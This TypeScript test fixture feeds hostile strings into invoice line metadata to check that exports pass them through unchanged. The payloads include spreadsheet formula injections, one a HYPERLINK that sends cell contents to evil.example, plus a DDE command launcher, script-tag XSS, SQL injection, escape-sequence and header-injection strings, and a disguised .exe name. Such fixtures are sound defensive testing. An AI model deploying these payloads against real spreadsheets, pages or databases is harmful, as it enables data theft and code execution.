import { lineOnTrip } from './trips.ts'
import type { SpecialLine } from './wire/special-line.ts'
import { withMetadata } from './wire/special-line.ts'

type Hostile = { description?: string; trip_name?: string; cost_center?: string; vendor?: string }

const ESCAPE = String.fromCharCode(27)
const RIGHT_TO_LEFT = '\u202e'

/**
 * Text that attacks spreadsheets, browsers, terminals and careless writers; it must come out
 * unchanged.
 */
const HOSTILE_TEXT: readonly Hostile[] = [
  { trip_name: '=HYPERLINK("https://evil.example/?x="&A1,"Open receipt")', cost_center: '=1+1' },
  { description: "+cmd|' /C calc'!A0", vendor: '@SUM(A1:A9)' },
  { cost_center: '@SUM(1+1)*cmd', description: '-2+3' },
  {
    trip_name: '<script>alert(1)</script>',
    description: '<img src=x onerror=alert(2)>',
    cost_center: '<b>4100</b> & "more"',
  },
  { description: 'He said "quoted", then, a comma; and a semicolon', trip_name: '"Trip, with ""quotes"""' },
  { description: 'first line\r\nsecond line\nthird\ttabbed', vendor: 'Two\r\nLines Ltd' },
  { trip_name: `Invoice ${RIGHT_TO_LEFT}gnp.exe`, cost_center: '\u05de\u05db\u05d9\u05e8\u05d5\u05ea 4100' },
  {
    description:
      'Team offsite \u{1F389}\u{1F469}\u200d\u{1F4BB} \u00e9 vs e\u0301 \u0645\u0631\u062d\u0628\u0627 \u6771\u4eac',
    vendor: 'Caf\u00e9 \u2603',
  },
  { description: `Very long: ${'all work and no play '.repeat(180)}end`, trip_name: 'L'.repeat(600) },
  { description: `${ESCAPE}[31mred${ESCAPE}[0m and a bell \u0007`, cost_center: `${ESCAPE}]0;title\u0007` },
  { trip_name: "Robert'); DROP TABLE lines;--", cost_center: "' OR '1'='1" },
  { trip_name: 'constructor', cost_center: '__proto__', vendor: 'toString' },
  { trip_name: '\uff1d1+1 full-width formula', cost_center: '%00%0d%0aSet-Cookie:x=1' },
]

/** One line for each hostile text, on the first account's EUR and GBP invoices. */
export const HOSTILE_LINES: readonly SpecialLine[] = HOSTILE_TEXT.map((text, index) => ({
  name: `hostile_${index}`,
  currency: index % 3 === 2 ? 'GBP' : 'EUR',
  make: (trip, id) => {
    const line = lineOnTrip(trip, 'hotel', {
      id,
      description: text.description ?? 'Hotel, 1 night',
      quantity: 1,
      unitPrice: `${70 + index}.50`,
      taxPercentage: '0',
    })
    const change: Parameters<typeof withMetadata>[1] = {}
    // a new trip, to leave the trip name of harmless lines alone
    if (text.trip_name !== undefined) {
      change.trip_id = String(7_700_000 + index)
      change.trip_name = text.trip_name
    }
    if (text.cost_center !== undefined) change.cost_center = text.cost_center
    if (text.vendor !== undefined) change.vendor = { code: 'XX', name: text.vendor }
    return { wire: withMetadata(line, change) }
  },
}))
